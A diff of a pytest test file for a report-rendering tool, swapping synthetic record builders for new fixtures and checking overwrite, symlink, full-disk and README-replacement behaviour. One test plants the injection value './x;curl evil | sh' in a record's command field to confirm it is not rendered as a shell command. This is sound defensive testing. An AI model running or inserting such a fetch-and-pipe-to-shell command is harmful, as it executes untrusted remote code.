@@ -6,17 +6,17 @@ import os
 import re
 import shutil
 import subprocess
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-from conftest import one_line, run, tree
-from synthetic import SHAPES, SMALL, make_matvec, make_record
+from conftest import Report, one_line, run, text_of, tree
+from records import few, h100, keep, no_gpu
 
 
-def test_rendering_in_place_changes_nothing(report: Callable[..., str], tmp_path: Path) -> None:
+def test_rendering_in_place_changes_nothing(report: Report, tmp_path: Path) -> None:
     """The folder itself is a record too: rendered from it, into it."""
-    report(make_record(SMALL))
+    report(few())
     before = tree(tmp_path / "report")
     result = run("render", tmp_path / "report", "--output", tmp_path / "report")
     assert result.returncode == 0 and tree(tmp_path / "report") == before
@@ -27,9 +27,7 @@ IN_THE_WAY = ["README.md", "record.json", "report.html", "charts/claims.svg"]
 
 @pytest.mark.parametrize("pipe", [False, True])
 @pytest.mark.parametrize("name", IN_THE_WAY)
-def test_what_is_of_no_report_is_not_overwritten(
-    name: str, pipe: bool, save: Callable[..., Path], tmp_path: Path
-) -> None:
+def test_what_is_of_no_report_is_not_overwritten(name: str, pipe: bool, tmp_path: Path) -> None:
     """Nor does a pipe keep anybody waiting."""
     out = tmp_path / "out"
     (out / name).parent.mkdir(parents=True)
@@ -37,73 +35,71 @@ def test_what_is_of_no_report_is_not_overwritten(
         os.mkfifo(out / name)
     else:
         (out / name).write_text("mine")
-    line = one_line(run("render", save(make_record(SMALL)), "--output", out), 1)
+    line = one_line(run("render", keep(tmp_path / "input", few()), "--output", out), 1)
     assert f"{out / name}: is no file of such a report" in line
     assert tree(out) == ({} if pipe else {name: b"mine"}) and (out / name).is_fifo() == pipe
 
 
-def test_a_report_s_own_bytes_are_not_in_its_way(
-    report: Callable[..., str], tmp_path: Path
-) -> None:
+def test_a_report_s_own_bytes_are_not_in_its_way(report: Report, tmp_path: Path) -> None:
     """A run's folder becomes its report."""
-    report(make_record(SMALL[:2], strategies=["cpu_blas", "tile16"]))
+    report(few())
     (tmp_path / "other").mkdir()
     shutil.copy(tmp_path / "report" / "record.json", tmp_path / "other")
     assert run("render", tmp_path / "report", "--output", tmp_path / "other").returncode == 0
 
 
-def test_a_folder_may_be_called_like_a_file(report: Callable[..., str], tmp_path: Path) -> None:
-    report(make_record(SMALL[:2], strategies=["cpu_blas", "tile16"]))
+def test_a_folder_may_be_called_like_a_file(report: Report, tmp_path: Path) -> None:
+    report(few())
     folder = shutil.move(tmp_path / "report", tmp_path / "probes_of_mine")
     assert run("render", folder, "--output", tmp_path / "again").returncode == 0
 
 
-def test_what_a_record_says_is_no_command(report: Callable[..., str]) -> None:
-    record = make_record(SMALL[:2], strategies=["cpu_blas", "tile16"])
+def test_what_a_record_says_is_no_command(report: Report) -> None:
+    record = few()
     record["environment"]["command"] = "./x;curl evil | sh"
-    lines = "\n".join(re.findall(r"```sh\n(.*?)```", report(record), re.S)).split("\n")
+    lines = "\n".join(re.findall(r"```sh\n(.*?)```", text_of(report(record)), re.S)).split("\n")
     assert len(lines) > 1 and not any("curl" in line.split("#")[0] for line in lines)
 
 
 def test_what_is_of_an_older_report_goes_and_what_is_not_ours_stays(
-    report: Callable[..., str], tmp_path: Path
+    report: Report, tmp_path: Path
 ) -> None:
-    folder, few = tmp_path / "report", ["cpu_blas", "tile16"]
-    report(make_matvec([(64, 64)], gpu=False))
+    folder = tmp_path / "report"
+    report(no_gpu("matvec/"))
     assert (folder / "matvec.md").exists()
     for name in ("notes.md", "charts/my.svg"):
         (folder / name).parent.mkdir(exist_ok=True)
         (folder / name).write_text("mine")
     os.mkfifo(folder / "pipe.md")
-    report(make_record(SMALL[:2], gpu=False, strategies=few), drawn=True)
+    report(no_gpu("matmul/"))
     left = tree(folder)
     assert left["notes.md"] == left["charts/my.svg"] == b"mine" and "matvec.md" not in left
     charts = {name for name in left if name.startswith("charts/")}
-    assert charts == {"charts/matmul_cpu_gpu.svg", "charts/my.svg"}
+    assert "charts/my.svg" in charts and not any("matvec" in name for name in charts)
     assert (folder / "pipe.md").is_fifo()
 
 
-def test_no_link_leads_out_of_the_folder(report: Callable[..., str], tmp_path: Path) -> None:
+def test_no_link_leads_out_of_the_folder(report: Report, tmp_path: Path) -> None:
     """Of a folder, of a file, or to nowhere."""
-    record, elsewhere = make_record(SMALL[:2], strategies=["cpu_blas", "tile16"]), tmp_path / "else"
-    report(record, drawn=True)
+    record, elsewhere = few(), tmp_path / "else"
+    report(record)
     folder = tmp_path / "report"
     elsewhere.mkdir()
     for name in ("charts", "cases.csv"):
         shutil.move(folder / name, tmp_path / "kept")
         for target in (elsewhere, tmp_path / "nowhere"):
             (folder / name).symlink_to(target)
-            result = run("render", folder, "--output", folder, drawn=True)
+            result = run("render", folder, "--output", folder)
             assert " or a link leads" in one_line(result, 1) and not [*elsewhere.iterdir()]
             (folder / name).unlink()
         shutil.move(tmp_path / "kept", folder / name)
 
 
-def test_what_cannot_be_written(save: Callable[..., Path], tmp_path: Path) -> None:
+def test_a_folder_that_cannot_be_written_is_one_line(tmp_path: Path) -> None:
     """A file in the folder's place, and where even root can make none."""
     (tmp_path / "report").write_text("mine")
     for target in (tmp_path / "report", Path("/proc/recheck-report")):
-        line = one_line(run("render", save(make_record(SMALL)), "--output", target), 1)
+        line = one_line(run("render", keep(tmp_path / "input", few()), "--output", target), 1)
         assert f"error: {target}: cannot be written: " in line
     assert (tmp_path / "report").read_text() == "mine"
 
@@ -120,23 +116,23 @@ def small_disk(tmp_path: Path) -> Iterator[Path]:
     subprocess.run(["umount", str(mount)], check=True)
 
 
-def test_full_disk_leaves_the_earlier_report(save: Callable[..., Path], small_disk: Path) -> None:
+def test_a_full_disk_leaves_the_earlier_report(small_disk: Path, tmp_path: Path) -> None:
     target = small_disk / "report"
-    result = run("render", save(make_record(SMALL)), "--output", target)
+    result = run("render", keep(tmp_path / "input", few()), "--output", target)
     assert result.returncode == 0, result.stderr
     before = tree(small_disk)
-    line = one_line(run("render", save(make_record(SHAPES)), "--output", target), 1)
+    line = one_line(run("render", keep(tmp_path / "input", h100()), "--output", target), 1)
     assert line == f"error: {target}: cannot be written: No space left on device\n"
     assert tree(small_disk) == before
 
 
 def test_readme_is_replaced_last(
-    report: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    report: Report, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """A rename that fails half way leaves the earlier README and no temporary file."""
     from recheck_report.commands import Failed, output
 
-    report(make_record(SMALL))
+    report(few())
     before = tree(tmp_path / "report")
     renames = iter([os.replace])
 
